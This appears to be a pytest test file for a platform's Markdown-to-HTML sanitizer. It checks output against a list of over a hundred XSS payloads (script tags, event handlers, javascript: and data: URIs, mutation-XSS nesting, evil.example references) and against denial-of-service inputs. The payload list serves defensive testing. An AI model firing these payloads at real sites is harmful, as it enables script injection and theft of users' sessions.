"""Markup: nothing that people write runs in a reader's browser, and none of it keeps the server busy."""

import time
from contextlib import suppress
from html.parser import HTMLParser
from urllib.parse import urlsplit

import httpx2
import pytest
from hypothesis import given
from hypothesis import strategies as st

from groundwork.domains.content.cleaning import clean_again
from groundwork.domains.content.errors import TooIntricate
from groundwork.domains.content.markdown import LONGEST_BODY, clean, render_now
from groundwork.kernel.database import transaction
from groundwork.kernel.runtime import Runtime
from tests.conftest import MakePerson
from tests.content.support import kept, publish, write
from tests.security.support import V1, fetch

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=//evil.example></script>",
    "</p><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="https://x.example/" onload="alert(1)">',
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=//evil.example/x.png>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<img src='/api/v1/files/../auth/logout'>",
    "<img src='/api/v1/auth/logout'>",
    "<img src='/api/v1/files/0197f2a4-c1d2-7e4b-8000-000000000000/content?download=true&x=<script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://x.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href=x target=_blank>x</a>",
    "<a href=x rel=follow ping=//evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x](https://x.example/"onerror="alert(1))',
    '![x"onerror="alert(1)](https://x.example/)',
    '[x](https://x.example/ "x\\"onmouseover=\\"alert(1)")',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img onerror=alert(1) src>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)>",
    "<div contenteditable onblur=alert(1) tabindex=1>x</div>",
    "<p id=location name=document class=fixed>x</p>",
    "<h1 id=getElementById>x</h1>",
    "<h1 id='section-x onclick=alert(1)'>x</h1>",
    "<img name=cookie id=cookie src=https://x.example/>",
    "<code class='language-x fixed inset-0'>x</code>",
    '```js" onclick="alert(1)\nx\n```',
    "```</code><script>alert(1)</script>\nx\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|-|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "* <b onclick=alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufeff<script>alert(1)</script>",
    "<\N{FULLWIDTH LATIN SMALL LETTER S}cript>alert(1)</script>",
    "<b><script>alert(1)</script></b><p><a href='javascript:alert(1)'><img src=x onerror=alert(1)></a>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<div popover id=x onbeforetoggle=alert(1)>x</div>",
    "<a href='https://x.example' style=x onpointerrawupdate=alert(1)>x</a>",
)
_NEUTRAL = {
    *("id", "title", "class", "open", "src", "alt", "width", "height", "value", "start", "align", "colspan", "rowspan"),
    *("scope", "href", "rel", "loading"),
}
_TAGS = {
    *("h1", "h2", "h3", "h4", "h5", "h6", "a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "del"),
    *("details", "div", "dl", "dt", "em", "figcaption", "figure", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol"),
    *(
        "p",
        "pre",
        "q",
        "s",
        "samp",
        "small",
        "span",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
    ),
    *("th", "thead", "tr", "u", "ul", "var"),
}


class Reader(HTMLParser):
    """Reads HTML as a browser would at its simplest, and notes what might do something."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at each tag and each of its attributes."""
        given = {name: value or "" for name, value in attrs}
        if tag not in _TAGS:
            self.wrong.append(f"<{tag}>")
        self.wrong += [f"{tag} {name}" for name in given if name not in _NEUTRAL]
        scheme = urlsplit(given.get("href", "").strip()).scheme.lower()
        if scheme not in {"", "http", "https", "mailto"} or "\\" in given.get("href", ""):
            self.wrong.append(given["href"])
        source = given.get("src", "https://")
        if not (source.startswith(("https://", "/api/v1/files/")) and ".." not in source):
            self.wrong.append(source)
        if tag == "a" and given.get("rel") != "noopener nofollow ugc":
            self.wrong.append(f"a rel {given.get('rel')}")
        if "id" in given and not given["id"].startswith("section-"):
            self.wrong.append(f"id {given['id']}")
        if "class" in given and not (
            tag == "code" and given["class"].startswith("language-") and " " not in given["class"]
        ):
            self.wrong.append(f"class {given['class']}")

    def handle_comment(self, data: str) -> None:
        """There is none."""
        self.wrong.append("comment")

    def handle_decl(self, decl: str) -> None:
        """There is none."""
        self.wrong.append("declaration")

    def handle_pi(self, data: str) -> None:
        """There is none."""
        self.wrong.append("instruction")


def dangers(html: str) -> list[str]:
    """What is in it that might do something."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.wrong


@pytest.mark.parametrize("text", HOSTILE)
def test_s51_what_is_hostile_becomes_harmless(text: str) -> None:
    """As it is, nested in everything that Markdown has, and when it is read again. [ASVS 1.3.1]"""
    wrapped = (
        text,
        f"> {text}",
        f"* {text}",
        f"**{text}**",
        f"[{text}](https://x.example)",
        f"<div>\n\n{text}\n\n</div>",
        f"<p title='{text}'>x</p>",
        f"a {text} b\n\n{text}",
        f"| a |\n|-|\n| {text} |",
    )
    for body in wrapped:
        html = render_now(body).html
        assert dangers(html) == [], html
        assert clean(html) == html


_PIECES = st.sampled_from(
    [*HOSTILE, "\n\n", "\n", " ", "> ", "* ", "`", "```\n", "**", "[", "](", ")", "<", ">", "|", "-"]
)


@given(st.lists(st.one_of(_PIECES, st.text(max_size=5)), max_size=12))
def test_s51_no_mixture_of_it_is_dangerous(pieces: list[str]) -> None:
    """Pieces of it in any order, with what Markdown and HTML make of the seams. [ASVS 1.3.1]"""
    html = render_now("".join(pieces)).html
    assert dangers(html) == [], html


def test_s51_what_is_harmless_stays() -> None:
    """Cleaning takes nothing from those who mean well."""
    body = (
        '# Wool\n\n## Wool\n\n*a* **b** ~~c~~ `d` [e](/products/wool) [f](https://x.example "g") <mark>h</mark>\n\n'
        "![i](/api/v1/files/0197f2a4-c1d2-7e4b-8000-000000000000/content?variant=640) ![j](https://x.example/j.png)\n\n"
        "| k | l |\n|:-|-:|\n| m | n |\n\n```python\nprint(1 < 2)\n```\n\n3. o\n\n"
        "<details open><summary>p</summary>q</details>\n"
    )
    rel = 'rel="noopener nofollow ugc"'
    picture = (
        '<img src="/api/v1/files/0197f2a4-c1d2-7e4b-8000-000000000000/content?variant=640" alt="i" loading="lazy">'
    )
    html = render_now(body).html
    for part in (
        '<h1 id="section-wool">Wool</h1>',
        '<h2 id="section-wool-2">Wool</h2>',
        "<em>a</em> <strong>b</strong> <del>c</del> <code>d</code>",
        f'<a href="/products/wool" {rel}>e</a>',
        f'<a href="https://x.example" title="g" {rel}>f</a>',
        "<mark>h</mark>",
        picture,
        '<img src="https://x.example/j.png" alt="j" loading="lazy">',
        '<th align="left">k</th>',
        '<td align="right">n</td>',
        '<code class="language-python">print(1 &lt; 2)\n</code>',
        '<ol start="3">',
        "<summary>p</summary>",
    ):
        assert part in html, part


@pytest.mark.anyio
async def test_s51_articles_and_previews_are_cleaned(
    person: MakePerson, client: httpx2.AsyncClient, runtime: Runtime
) -> None:
    """What is kept, what is previewed, what guests read, what an old revision brings back. [ASVS 1.3.1]"""
    author, body = await person(), "\n\n".join(HOSTILE)
    article = await publish(author, title="<script>alert(1)</script>", excerpt="<img onerror=alert(1)>", body=body)
    path = f"/content/{article['id']}"
    await author.call("PATCH", path, json={"body": "harmless"})
    await author.call("POST", f"{path}/revisions/1/restoration")
    read = (await client.get(V1 + path)).json()["data"]
    preview = (await author.post("/content/preview", {"body": body})).json()["data"]
    for html in (article["bodyHtml"], read["bodyHtml"], preview["bodyHtml"]):
        assert dangers(html) == []
        assert "<p>" in html
    # The source stays as it was written: it is text, and shown as text.
    assert read["body"] == body.replace("\r\n", "\n")


@pytest.mark.anyio
async def test_s51_what_was_kept_is_held_to_todays_list(person: MakePerson, runtime: Runtime) -> None:
    """HTML that an older version let pass is cleaned each night; what is clean is left alone. [ASVS 1.3.1]"""
    author = await person()
    first, second = await publish(author, body="*one*"), await publish(author, body="*two*")
    html = "<p>one</p><script>alert(1)</script>"
    await fetch(runtime, "UPDATE content SET body_html = :h WHERE id = CAST(:id AS uuid)", h=html, id=first["id"])
    before = {row["id"]: row for (row,) in (await kept(runtime))["content"]}
    async with transaction(runtime) as db:
        await clean_again(db)
    after = {row["id"]: row for (row,) in (await kept(runtime))["content"]}
    assert {key for key in after if after[key] != before[key]} == {first["id"]}
    assert after[first["id"]]["body_html"] == "<p>one</p>"
    assert second["id"] in after


_N = LONGEST_BODY
_LONG = {
    "brackets": "[" * _N,
    "pictures": "![[" * (_N // 3),
    "mixed emphasis": "*_" * (_N // 2),
    "quoted brackets": ">[" * (_N // 2),
    "nested lists": "\n".join("  " * depth + "- a" for depth in range(400)),
    "long table": "|a|b|\n|-|-|\n" + "|x\n" * (_N // 4),
    "large table": "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|\n" * (_N // 3),
    "references": "[x]: y\n" * (_N // 7),
    "paragraph": "a\n" * (_N // 2),
    "headings": "# a\n" * (_N // 4),
    "numbers": "1. a\n" * (_N // 5),
    "open tags": "<div>" * (_N // 5),
    "open lists": "<ul><li>" * (_N // 8),
    "open formatting": "".join(f"<b id={number}>" for number in range(12_000)) + "<p>" * 1000,
    "tags in a line": "a <b>" * (_N // 5),
    "attributes": "<a " + " ".join(f"a{number}=1" for number in range(20_000)) + ">",
}


@pytest.mark.parametrize("kind", _LONG)
def test_s57_no_text_keeps_the_server_busy(kind: str) -> None:
    """The worst that fits into a body is rendered within seconds, or refused within them. [ASVS 5.2.3, 15.2.2]"""
    started = time.thread_time()
    with suppress(TooIntricate):
        assert len(render_now(_LONG[kind][:_N]).html) < 20 * _N
    assert time.thread_time() - started < 6


@pytest.mark.anyio
async def test_s57_what_takes_too_long_is_refused_and_nothing_is_kept(person: MakePerson, runtime: Runtime) -> None:
    """By every operation that renders; and so is what is longer than a text may be. [ASVS 5.2.3]"""
    author = await person()
    article = await write(author, body="short")
    before = await kept(runtime)
    for body in ("<div>" * (_N // 5), "x" * (_N + 1)):
        for answer in (
            await author.post("/content", {"title": "Long", "body": body}),
            await author.call("PATCH", f"/content/{article['id']}", json={"body": body}),
            await author.post("/content/preview", {"body": body}),
        ):
            assert (answer.status_code, answer.json()["error"]["code"]) == (400, "VALIDATION_ERROR")
            assert answer.json()["error"]["details"][0]["field"] == "body"
    assert await kept(runtime) == before
